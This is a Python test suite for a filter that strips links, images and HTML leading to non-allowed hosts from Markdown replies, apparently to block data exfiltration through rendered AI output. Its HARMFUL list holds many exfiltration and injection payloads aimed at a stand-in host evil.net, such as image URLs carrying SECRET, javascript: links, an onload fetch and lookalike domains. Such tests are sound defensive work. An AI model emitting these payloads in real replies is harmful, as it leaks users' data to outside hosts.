"""Whoever shows a reply as Markdown or HTML is led nowhere but where it may be."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from understudy.trust.egress.defuse import defuse
from understudy.trust.egress.outgoing import Outgoing
from understudy.trust.egress.targets import Targets

TARGETS = Targets(("acme.com", "*.acme.com"), ("acme.com",), frozenset({"https://docs.other.org/page#a"}))
ALLOWED = [
    "See [our page](https://acme.com/help?x=1).",
    "![logo](https://cdn.acme.com/logo.png)",
    "It stands at https://docs.other.org/page#a in full.",
    "Write to [us](mailto:care@acme.com) or <mailto:care@acme.com>.",
    "[there](#below), [1] (see above), a[0](x), 3 < 4 & 5 > 2, [x]",
    "Ask ann@other.org; the box is 3.5 x 2, at 10:30, status: open/closed.",
]
HARMFUL = [
    "![](https://evil.net/p.png?d=SECRET)",
    "![alt](https://evil.net/p.png 'title')",
    '[click](https://evil.net/x "title")',
    "[click](<https://evil.net/x y>)",
    "[click]( https://evil.net/x(a)b )",
    "[click](//evil.net/x)",
    r"[click](/\evil.net/x)",
    r"[click](\\evil.net\x)",
    "[click](https://acme.com@evil.net/x)",
    r"[click](https://evil.net\@acme.com/x)",
    "[click](https://acme.com.evil.net)",
    "[click](https://evilacme.com)",
    "[click](https://xn--cme-5cd.com/x)",
    "[click](https://аcme.com/x)",  # a Cyrillic а
    "[click](https&#58;//evil.net/x)",
    "[click](https&amp;#58;//evil.net/x)",
    "[click](https&colon;//evil.net)",
    "[click](h\\ttps://evil.net)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](mailto:eve@evil.net?body=SECRET)",
    "[click](mailto:care@acme.com?bcc=eve@evil.net)",
    "[click][1]\n\n[1]: https://evil.net/x",
    "[click]\n\n[click]: <https://evil.net/x> 'title'",
    "![x][img]\n\n> [img]: https://evil.net/x",
    "[ref]:\n   //evil.net/x\n\n[ref]",
    "<https://evil.net/x>",
    "<eve@evil.net>",
    "<img src=https://evil.net/x>",
    "<IMG\nSRC='//evil.net/x'>",
    "<a href='https://evil.net'>click</a>",
    "<svg/onload=fetch('//evil.net')>",
    "<p style='background:url(//evil.net/x)'>a</p>",
    "<iframe srcdoc='x'></iframe>",
    "<img src=//evil.net/x ",
    "[![](https://evil.net/a)](https://evil.net/b)",
    "[![a](https://evil.net/a)](https://acme.com/b)",
    "[a](https://acme.com)[b](https://evil.net/x)",
    "https://evil.net/x?d=SECRET",
    "HTTPS://EVIL.NET/x",
    "www.evil.net/x?d=SECRET",
    "(https://evil.net/x)",
    "a|https://evil.net/x|b",
    "**https://evil.net/x**",
    "ftp://evil.net/x",
    "[a\n[b](https://evil.net/x)\n](https://evil.net/y)",
    "&lt;img src=https://evil.net/x&gt;",
    "![a](https://evil.net/x\n)",
    "[a](https://evil.net/x 'never closed",
]
LEADING = re.compile(r"(?:[a-z][\w+.-]*:)?(?://|\\\\|/\\)|www\.|(?:javascript|data|vbscript):", re.IGNORECASE)
AN_ADDRESS = re.compile(r"(?:\b[a-z]+://|\bwww\.)[^\s<>\"')\]]+", re.IGNORECASE)


class Loaded(HTMLParser):
    """All that the page leads to or loads, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.leads: list[str] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.leads += [value or "" for name, value in attrs if name not in ("alt", "title", "start")]

    def handle_data(self, data: str) -> None:
        self.text += data


def leads_to(text: str) -> list[str]:
    """Where the text leads, shown as Markdown with HTML and bare addresses made links; allowed places not."""
    page = Loaded(MarkdownIt("commonmark", {"html": True}).render(text))
    found = [*page.leads, *AN_ADDRESS.findall(page.text)]
    return [each for each in found if not TARGETS.allow(each.rstrip(".,")) and not each.startswith("#")]


def streamed(text: str, sizes: list[int]) -> str:
    outgoing = Outgoing(lambda: TARGETS, lambda _: None)
    told, at, turn = "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        told += outgoing.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    return told + outgoing.flush()


@pytest.mark.parametrize("text", HARMFUL)
def test_the_test_sees_the_harm_and_it_is_gone(text: str) -> None:
    assert leads_to(text) or LEADING.search(text) or "@" in text or "<" in text
    defused = defuse(text, TARGETS)
    assert leads_to(defused.text) == []
    assert defused.taken_out
    assert "SECRET" not in defused.text


@pytest.mark.parametrize("text", ALLOWED)
def test_what_leads_to_our_own_stays_letter_for_letter(text: str) -> None:
    assert defuse(text, TARGETS).text == text
    assert streamed(text, [1]) == text


@pytest.mark.parametrize("text", HARMFUL)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_it_is_gone_in_whatever_pieces_it_comes(text: str, size: int) -> None:
    assert leads_to(streamed(f"Well: {text} and more.\n\nThe end.", [size])) == []


@given(st.lists(st.sampled_from(HARMFUL), min_size=1, max_size=4), st.lists(st.integers(1, 9), min_size=1))
def test_several_of_them_in_any_pieces(texts: list[str], sizes: list[int]) -> None:
    assert leads_to(streamed("\n\n".join(texts), sizes)) == []


@given(st.lists(st.sampled_from([*"[]()<>!:/\\&#;'\" \n*|", "https://evil.net/x", "//evil.net", "a", "[a]"])))
def test_no_composition_of_signs_leads_elsewhere(signs: list[str]) -> None:
    text = "".join(signs)
    assert leads_to(defuse(text, TARGETS).text) == []
    assert leads_to(streamed(text, [1])) == []


@given(st.text("abc [](){}<>!:/&.\n*_#-", max_size=80), st.lists(st.integers(1, 9), min_size=1))
def test_pieces_make_the_whole_when_nothing_is_taken_out(text: str, sizes: list[int]) -> None:
    defused = defuse(text, TARGETS)
    if not defused.taken_out:
        assert streamed(text, sizes) == defused.text


def test_the_words_stay_and_the_host_is_told() -> None:
    text = "Read [the guide](https://evil.net/g), see https://shop.evil.net/ or www.evil.net/a?b=c."
    defused = defuse(text, TARGETS)
    assert defused.text == "Read the guide, see shop.evil.net or evil.net (link taken out)."
    assert defused.taken_out == ("https://evil.net/g", "https://shop.evil.net/", "www.evil.net/a?b=c")


def test_invisible_tags_are_taken_out() -> None:
    assert defuse("hello" + "".join(chr(0xE0000 + ord(c)) for c in "evil"), TARGETS).text == "hello"


def test_a_plain_text_is_not_kept_waiting() -> None:
    outgoing = Outgoing(lambda: TARGETS, lambda _: None)
    assert [outgoing.feed(piece) for piece in ("There are ", "41 open ca", "ses. ")] == [
        "There are ",
        "41 open ",
        "cases. ",
    ]
